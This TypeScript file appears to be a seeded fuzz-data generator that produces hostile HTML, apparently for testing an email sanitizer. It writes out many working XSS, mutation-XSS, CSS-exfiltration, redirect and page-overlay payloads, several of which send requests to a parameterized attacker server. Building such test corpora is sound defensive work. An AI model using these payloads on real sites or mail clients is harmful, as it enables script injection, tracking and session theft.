import { type Chance, chanceOf } from "./chance.ts";

/**
 * Hostile HTML, which tries to run, to fetch, to lead away or to cover the page: each is another mix of known attacks. Requests
 * to the attacker's server name the mail that caused them.
 */
export function hostileHtml(count: number, seed: number, stranger: string): string[] {
  const chance = chanceOf(seed);
  return Array.from({ length: count }, (_, index) => {
    const to = `${stranger}/${index}`;
    // Each attack comes first once.
    const first = attacks.slice(index % attacks.length).slice(0, 1);
    const others = Array.from({ length: chance.whole(0, 3) }, () => chance.pick(attacks));
    const parts = [...first, ...others].map((attack) =>
      hidden(chance, attack({ chance, to, script: scriptOf(chance, to) })),
    );
    return parts.join(chance.pick(["", "\n", "<p>and", "</div></td></table>"]));
  });
}

interface Means {
  chance: Chance;
  /** The attacker's server. */
  to: string;
  /** A script without double quotes. */
  script: string;
}

type Attack = (means: Means) => string;

function scriptOf(chance: Chance, to: string): string {
  return chance.pick([
    "alert(1)",
    "confirm(document.domain)",
    `fetch('${to}/fetched')`,
    `top.location='${to}/top'`,
    `location='${to}/here'`,
    `open('${to}/opened')`,
    `new Image().src='${to}/image'`,
    "parent.document.title='taken'",
    `navigator.sendBeacon('${to}/beacon')`,
    "print()",
  ]);
}

const run: Attack[] = [
  ({ script }) => `<script>${script}</script>`,
  ({ to }) => `<script src="${to}/script.js"></script>`,
  ({ to }) => `<script type=module>import '${to}/module.js'</script>`,
  ({ script }) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  ({ script }) => `<script\f/x>${script}</script\n>`,
  ({ script }) => `<script>/*<!--<script>*/${script}</script>`,
  ({ chance, script }) => `<img ${anyCase(chance, "onerror")}="${script}" src=x>`,
  ({ script }) => `<img/src="x"/onerror="${script}"//>`,
  ({ script }) => `<img src=x: alt='a"' title=">" onerror="${script}">`,
  ({ script }) => `<img """><img src=x onerror="${script}">">`,
  ({ script }) => `<body onload="${script}" onpageshow="${script}"><p>body</p>`,
  ({ script }) => `<svg onload="${script}"><animate onbegin="${script}" attributeName=x dur=1s>`,
  ({ script }) => `<svg><script>${script}</script></svg><svg/onload=${script}>`,
  ({ script }) => `<svg><use href="data:image/svg+xml;base64,${btoa(`<svg id=x onload="${script}"/>`)}#x"/></svg>`,
  ({ script }) => `<svg><a xlink:href="${hiddenScheme(script)}"><text y=20>Click</text></a></svg>`,
  ({ script }) => `<svg><foreignObject><body onload="${script}"></foreignObject></svg>`,
  ({ script }) =>
    `<svg><set attributeName=onmouseover to="${script}"><animate attributeName=href values="javascript:${script}">`,
  ({ script }) => `<math><maction actiontype="statusline#" xlink:href="javascript:${script}">x</maction></math>`,
  ({ script }) => `<details open ontoggle="${script}"><summary>x</summary></details>`,
  ({ script }) => `<input autofocus onfocus="${script}"><select autofocus onfocus="${script}"></select>`,
  ({ script }) => `<video autoplay onloadstart="${script}"><source onerror="${script}" src=x></video>`,
  ({ script }) => `<div style="animation:spin 1s" onanimationstart="${script}"></div><style>@keyframes spin{}</style>`,
  ({ script }) => `<marquee onstart="${script}">m</marquee><div onscrollsnapchange="${script}">x</div>`,
  ({ script }) =>
    `<p contenteditable autofocus tabindex=0 onfocus="${script}" popover onbeforetoggle="${script}">x</p>`,
  ({ script }) => `<template shadowrootmode=open><img src=x onerror="${script}"></template>`,
  ({ script }) => `<a href="${hiddenScheme(script)}" target=_self>Click</a>`,
  ({ chance, script }) => `<a href="${encoded(chance, `javascript:${script}`)}" target=_top>Click</a>`,
  ({ script }) =>
    `<a href="data:text/html;base64,${btoa(`<script>${script}</script>`)}">Click</a><a href="vbscript:x">y</a>`,
  ({ chance, script }) => doubled(chance, `<img src=x onerror="${script}">`),
];

const fetched: Attack[] = [
  ({ to }) =>
    `<img src="${to}/pixel"><img srcset="${to}/set 1x, ${to}/set2 2x"><picture><source srcset="${to}/source"><img></picture>`,
  ({ to }) => `<img src=x lowsrc="${to}/low" dynsrc="${to}/dyn" longdesc="${to}/long"><image src="${to}/old">`,
  ({ chance, to }) => `<img src="${encoded(chance, `${to}/encoded`)}"><img src="${to.replace("http:", "")}/no-scheme">`,
  ({ to }) =>
    `<table background="${to}/table"><td background="${to}/cell">x</td></table><body background="${to}/body">`,
  ({ chance, to }) => `<style>${cssOf(chance, to)}</style>`,
  ({ chance, to }) => `<style>/*</style>*/</style><style><!-- ${cssOf(chance, to)} --></style>`,
  ({ chance, to }) => `<p style="${styleOf(chance, to).replaceAll('"', "'")}">styled</p>`,
  ({ chance, to }) => `<p style="${encoded(chance, styleOf(chance, to))}">styled</p>`,
  ({ to }) =>
    `<link rel=stylesheet href="${to}/css"><link rel=prefetch href="${to}/prefetch"><link rel=preconnect href="${to}">`,
  ({ to }) =>
    `<link rel=dns-prefetch href="//x.tracker.test"><link rel=icon href="${to}/icon"><link rel=modulepreload href="${to}/m.js">`,
  ({ to }) =>
    `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay preload></audio>`,
  ({ to }) => `<video><track default src="${to}/track"></video><bgsound src="${to}/sound">`,
  ({ to }) =>
    `<object data="${to}/object"><embed src="${to}/embed"></object><applet code=x archive="${to}/applet"></applet>`,
  ({ to }) => `<svg><image href="${to}/svg-image"/><feImage xlink:href="${to}/filter"/><use href="${to}/use#x"/></svg>`,
  ({ to }) =>
    `<svg><style>@import url("${to}/svg-css");</style><rect fill="url(${to}/fill#x)" filter="url(${to}/filter#x)"/></svg>`,
  ({ to }) =>
    `<input type=image src="${to}/input"><a href="#" ping="${to}/ping">Click</a><blockquote cite="${to}/cite">x</blockquote>`,
  ({ to }) =>
    `<iframe src="${to}/frame"></iframe><frameset><frame src="${to}/frame2"></frameset><portal src="${to}/portal"></portal>`,
  ({ to }) => `<script type=speculationrules>{"prefetch":[{"urls":["${to}/speculated"]}]}</script>`,
];

const lead: Attack[] = [
  ({ chance, to }) => `<meta http-equiv="${anyCase(chance, "refresh")}" content="0;url=${to}/refresh">`,
  ({ script }) =>
    `<meta http-equiv=refresh content="0; url=javascript:${script}"><meta http-equiv=Set-Cookie content="inboxd=x">`,
  ({ to }) => `<base href="${to}/base/" target=_top><img src="relative"><a href="relative">Click</a>`,
  ({ to, script }) =>
    `<form action="${to}/form" id=f><input name=x autofocus><button formaction="javascript:${script}">Go</button></form>`,
  ({ to }) =>
    `<form id=g action="${to}/form" target=_top></form><input form=g type=image src=x><isindex action="${to}/isindex">`,
  ({ to, script }) => `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;&lt;img src='${to}/srcdoc'&gt;"></iframe>`,
  ({ script }) => `<iframe src="javascript:${script}"></iframe><object data="javascript:${script}"></object>`,
  ({ script }) =>
    `<embed src="data:text/html,<script>${script}</script>"><iframe src="data:text/html,%3Cscript%3E${script}%3C/script%3E">`,
  () =>
    `<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:9999px;height:9999px">Session over</div>`,
  () => `<style>html,body{position:fixed!important;height:100vh;overflow:hidden}*{display:none}</style>`,
  () =>
    `<dialog open>Enter your key</dialog><p id=navigation name=body class=frame popover>x</p><img name=cookie id=documentElement>`,
];

/** Markup that is harmless in a first reading, but not after it was written out and read by a browser. */
const mutating: Attack[] = [
  ({ script }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  ({ script }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${script}">`,
  ({ script }) => `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
  ({ script }) => `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  ({ script }) => `<svg><style><![CDATA[</style><img src=x onerror="${script}">]]></style></svg>`,
  ({ script }) => `<style><style/><img src=x onerror="${script}"></style>`,
  ({ script }) => `<title><a href="</title><img src=x onerror='${script.replaceAll("'", "`")}'>"></a></title>`,
  ({ script }) => `<textarea><a title="</textarea><svg onload='${script.replaceAll("'", "`")}'>"></textarea>`,
  ({ script }) =>
    `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp><listing>&lt;img src=x onerror=${script}&gt;</listing>`,
  ({ script }) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='${script.replaceAll("'", "`")}'>">`,
  ({ script }) =>
    `<!--><img src=x onerror="${script}">--><!--!><svg onload="${script}">--!><img src=x onerror="${script}">`,
  ({ script }) => `<![CDATA[><img src=x onerror="${script}">]]><?xml ><img src=x onerror="${script}">?>`,
  ({ script }) =>
    `<p title="x\u0000" \u0000onmouseover="${script}"><im\u0000g src=x onerror="${script}"><svg\u000bonload="${script}">`,
  ({ script }) =>
    `<a title="&quot;&gt;&lt;img src=x onerror=${script}&gt;" href="https://x.example/&quot;onmouseover=${script}//">x</a>`,
  ({ script }) =>
    `<img alt="\`\`onerror=${script}" title='"><script>${script}</script>' src=x><font color='"onload="${script}'>x</font>`,
  ({ script }) => `\ufeff+ADw-script+AD4-${script}+ADw-/script+AD4- ¼script¾${script}¼/script¾`,
  ({ chance, script }) => `${"<b>".repeat(chance.whole(300, 2_000))}<math><style><img src=x onerror="${script}">`,
  ({ chance, script }) =>
    `<table><tr><td>${"<table><svg><desc>".repeat(chance.whole(20, 400))}<style><img src=x onerror="${script}">`,
];

const attacks: readonly Attack[] = [...run, ...fetched, ...lead, ...mutating];

/** The same markup, in a context with other parsing rules. */
function hidden(chance: Chance, markup: string): string {
  const [before, after] = chance.pick([
    ...([
      ["", ""],
      ["", ""],
      ["", ""],
      ["<p>", "</p>"],
      ["<table><tr>", "</tr></table>"],
      ["<ul><li>", ""],
    ] as const),
    ...([
      ["<svg><desc>", "</desc></svg>"],
      ["<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"],
    ] as const),
    ...([
      ["<noscript>", "</noscript>"],
      ["<template>", "</template>"],
      ["<select><option>", "</select>"],
    ] as const),
    ...([
      ["<!--[if gte mso 9]>", "<![endif]-->"],
      ["<a href='https://x.example/'>", "</a>"],
      ["<title>", ""],
    ] as const),
    ...([
      ["<noembed>", "</noembed>"],
      ["<style>", ""],
      ["<textarea>", ""],
      ["<svg><title>", ""],
    ] as const),
  ]);
  return `${before}${markup}${after}`;
}

function cssOf(chance: Chance, to: string): string {
  return chance.pick([
    `@import url(${to}/import);@import "${to}/import2";`,
    `@IM\\50 ORT '${to}/escaped';`,
    `@font-face{font-family:x;src:url(${to}/font)}*{font-family:x}`,
    `*{${styleOf(chance, to)}}`,
    `@media all{@supports (display:block){p{${styleOf(chance, to)}}}}`,
    `p:first-child::before{content:url("${to}/content")}`,
    `/*\\*/*{background:url(${to}/comment)}/**/`,
    `@namespace url(${to}/namespace);@charset "utf-7";`,
    `@layer x{*{background:url(${to}/layer)}}`,
    `*{--x:url(${to}/variable);background:var(--x)}`,
    `p{color:red;<!--background:url(${to}/cdo)-->}`,
  ]);
}

function styleOf(chance: Chance, to: string): string {
  return chance.pick([
    `background:url(${to}/bg)`,
    `background-image:image-set('${to}/image-set' 1x)`,
    `background:u\\72l(${to}/escaped)`,
    `background:url( '${to}/spaces' )`,
    `list-style:url(${to}/list);display:list-item`,
    `cursor:url(${to}/cursor),auto;border-image:url(${to}/border)`,
    `mask:url(${to}/mask);filter:url(${to}/filter#x);clip-path:url(${to}/clip#x)`,
    `background:/**/url(${to}/comment);behavior:url(${to}/htc);-moz-binding:url(${to}/xbl#x)`,
    `background:-webkit-cross-fade(url(${to}/a),url(${to}/b),50%);width:expression(alert(1))`,
    `background:src("${to}/src");shape-outside:url(${to}/shape)`,
  ]);
}

/** `javascript:`, in a spelling that browsers accept. */
function hiddenScheme(script: string): string {
  return `&#x01; ja&Tab;va&NewLine;script&colon;${script}`;
}

/** A value with some letters as entities, which need no semicolon. */
function encoded(chance: Chance, value: string): string {
  return Array.from(value, (letter) => {
    const code = letter.codePointAt(0) ?? 0;
    if (letter === '"') return "&quot;";
    if (chance.is(0.6)) return letter;
    return chance.pick([`&#${code};`, `&#x${code.toString(16)};`, `&#0000${code};`]);
  }).join("");
}

/** Encoded once or more: decoding too often makes markup of it. */
function doubled(chance: Chance, markup: string): string {
  let text = markup;
  for (let times = chance.whole(1, 3); times > 0; times -= 1) {
    text = text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
  }
  return chance.is(0.3) ? encodeURIComponent(text) : text;
}

function anyCase(chance: Chance, word: string): string {
  return Array.from(word, (letter) => (chance.is(0.5) ? letter.toUpperCase() : letter)).join("");
}
